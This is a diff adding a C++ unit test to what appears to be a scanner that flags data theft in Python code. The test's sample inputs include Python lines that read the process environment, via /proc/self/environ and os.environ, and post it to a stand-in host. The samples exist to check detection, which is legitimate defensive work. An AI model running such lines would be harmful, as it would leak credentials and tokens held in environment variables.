@@ -454,6 +454,16 @@ TEST(Behaviour, InlinePythonAtImportIsJudgedByItsCode) {
             Severity::kCritical);
 }
 
+// The process's environment read from /proc is secret data like os.environ.
+TEST(Behaviour, ProcEnvironFileSentOut) {
+  ExpectFinding("import requests\nwith open('/proc/self/environ', 'rb') as f:\n"
+                "    d = f.read()\nrequests.post('https://x.example/', data={'e': d})\n",
+                "exfiltration", Severity::kHigh, Phase::kRuntime);
+  ExpectNoFinding("import requests\nwith open('/proc/self/status') as f:\n"
+                  "    d = f.read()\nrequests.post('https://x.example/', data={'e': d})\n",
+                  "exfiltration");
+}
+
 TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
   ExpectFinding("import os, requests\nclass C:\n    def send(self):\n        s = ''\n"
                 "        for k, v in os.environ.items():\n            s += v\n"
